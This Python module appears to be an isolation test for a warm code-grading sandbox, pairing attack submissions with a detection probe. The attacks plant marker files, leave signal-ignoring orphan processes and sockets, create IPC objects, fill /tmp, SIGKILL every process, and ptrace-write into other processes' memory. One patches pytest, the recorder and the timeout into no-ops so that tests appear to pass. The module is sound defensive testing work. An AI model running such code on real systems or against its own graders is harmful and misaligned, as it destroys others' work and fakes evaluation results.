"""Attacks on warm sandboxes: a submission that tries to reach the next run forked from the same
zygote (files, processes, sockets, System V IPC, a full /tmp, the zygote's memory image, its cwd
and environment), and the probe that looks for each trace.

The probe is planted in the honest base: at import it looks for every trace an attack here leaves
and, if it finds one, fails its own import, which costs it every test. Graded right after an
attack, in the same zygote, it must get exactly the result it gets cold.
"""

MARKER = "cda-warm-leak"
PORT = 47474
IPC_KEY = 0x2A2A2A2A
PLACES = ("/tmp", "/dev/shm", "/run", "/workspace", "/out", "/cda", "/cda/tests", "/cda/runner", "/jobs", "/",
          "/usr/lib", "/etc")

FILES = f'''
import os
for folder in {PLACES!r}:
    try:
        with open(os.path.join(folder, "{MARKER}"), "w") as handle:
            handle.write("left by the previous submission")
    except OSError:
        pass
'''

SURVIVOR = f'''
import os, subprocess, sys, time
server = """
import os, signal, socket, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
tcp = socket.socket(); tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
tcp.bind(("127.0.0.1", {PORT})); tcp.listen()
unix = socket.socket(socket.AF_UNIX); unix.bind("\\\\0{MARKER}"); unix.listen()
while True:
    time.sleep(1)
"""
try:
    subprocess.Popen([sys.executable, "-c", server, "{MARKER}"], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:  # and a double-forked orphan, out of the run's session
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", "import time\\nwhile True: time.sleep(1)", "{MARKER}"])
    time.sleep(1)
except OSError:
    pass
'''

SYSV_IPC = f'''
import ctypes
libc = ctypes.CDLL(None)
libc.shmget({IPC_KEY}, 4096, 0o1000 | 0o666)
libc.msgget({IPC_KEY}, 0o1000 | 0o666)
libc.semget({IPC_KEY}, 1, 0o1000 | 0o666)
'''

PATCH_MEMORY = f'''
import builtins, os, sys
import _pytest.python
_pytest.python.Function.runtest = lambda self: None
builtins.cda_warm_leak = True
sys.modules["cda_warm_leak"] = sys
os.environ["CDA_WARM_LEAK"] = "1"
sys.path.insert(0, "/tmp")
plugin = sys.modules.get("cda_pytest_plugin")
if plugin is not None:
    plugin.Recorder._write = lambda self, record: None
import pytest_timeout
pytest_timeout.timeout_sigalrm = lambda *a, **k: None
try:
    os.chdir("/")
except OSError:
    pass
'''

FILL_TMP = '''
import os
block = b"x" * (1 << 20)
for folder in ("/tmp", "/dev/shm"):
    for i in range(100000):
        try:
            with open(os.path.join(folder, f"fill{i}"), "wb") as handle:
                for _ in range(64):
                    handle.write(block)
        except OSError:
            break
'''

KILL_THE_ZYGOTE = '''
import os, signal
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
'''

# Write into every other process's memory (its first writable mapping), or attach to it.
WRITE_ZYGOTE_MEMORY = '''
import ctypes, os
libc = ctypes.CDLL(None)
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == os.getpid():
        continue
    libc.ptrace(16, int(entry), 0, 0)  # PTRACE_ATTACH
    try:
        with open(f"/proc/{entry}/maps") as maps:
            start = next(int(line.split("-")[0], 16) for line in maps if line.split()[1].startswith("rw"))
        with open(f"/proc/{entry}/mem", "r+b", buffering=0) as mem:
            mem.seek(start)
            mem.write(b"\\xff" * 4096)
    except (OSError, StopIteration, ValueError):
        pass
'''

WARM_ATTACKS = {
    "warm-files-for-the-next-run": FILES,
    "warm-leave-processes-and-sockets": SURVIVOR,
    "warm-sysv-ipc": SYSV_IPC,
    "warm-patch-the-zygote-image": PATCH_MEMORY,
    "warm-fill-tmp": FILL_TMP,
    "warm-kill-the-zygote": KILL_THE_ZYGOTE,
    "warm-write-zygote-memory": WRITE_ZYGOTE_MEMORY,
}

PROBE = f'''
def _cda_traces():
    import builtins, os, socket, sys
    found = [folder for folder in {PLACES!r} if os.path.exists(os.path.join(folder, "{MARKER}"))]
    if os.getcwd() != "/workspace":
        found.append("cwd")
    if "CDA_WARM_LEAK" in os.environ or "/tmp" in sys.path:
        found.append("environment")
    if hasattr(builtins, "cda_warm_leak") or "cda_warm_leak" in sys.modules:
        found.append("modules")
    import _pytest.python
    if _pytest.python.Function.runtest.__qualname__ != "Function.runtest":
        found.append("pytest")
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{{entry}}/cmdline", "rb") as handle:
                if b"{MARKER}" in handle.read():
                    found.append("process")
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", {PORT}), timeout=0.5).close()
        found.append("tcp")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_UNIX) as unix:
            unix.connect("\\0{MARKER}")
        found.append("unix socket")
    except OSError:
        pass
    for kind in ("shm", "msg", "sem"):
        try:
            with open(f"/proc/sysvipc/{{kind}}") as handle:
                if any(line.split()[:1] == ["{IPC_KEY}"] for line in handle):
                    found.append("ipc " + kind)
        except OSError:
            pass
    try:
        with open("/tmp/cda-probe", "wb") as handle:
            handle.write(b"x" * (1 << 20))
        os.remove("/tmp/cda-probe")
    except OSError:
        found.append("/tmp full")
    return found


_found = _cda_traces()
if _found:
    raise ImportError("traces of an earlier run: " + ", ".join(_found))
'''
